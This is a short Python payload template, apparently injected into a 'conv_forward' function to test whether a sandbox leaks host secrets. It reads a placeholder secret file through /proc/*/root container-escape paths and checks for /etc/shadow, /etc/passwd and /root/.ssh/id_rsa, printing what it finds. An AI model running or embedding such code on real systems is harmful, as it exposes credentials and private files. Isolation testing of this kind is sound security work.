# where: conv_forward
# Read a secret file on the host (path filled in) and other well-known secrets.
import glob as _glob, os as _os
_secret = '{secret_path}'
for _p in (_secret, '/proc/1/root' + _secret, '/proc/2/root' + _secret, '/proc/self/root' + _secret):
    try:
        with open(_p) as _f:
            print('ATTACK: secret %s OK %s' % (_p, _f.read()))
    except Exception as _e:
        print('ATTACK: secret %s %s' % (_p, type(_e).__name__))
print('ATTACK: parent listing %s' % _glob.glob(_os.path.dirname(_secret) + '/*'))
for _p in ('/etc/shadow', '/etc/passwd', '/root/.ssh/id_rsa', '/var/lib/postgresql', '/proc/1/root/etc/shadow'):
    print('ATTACK: exists %s %s' % (_p, _os.path.exists(_p)))
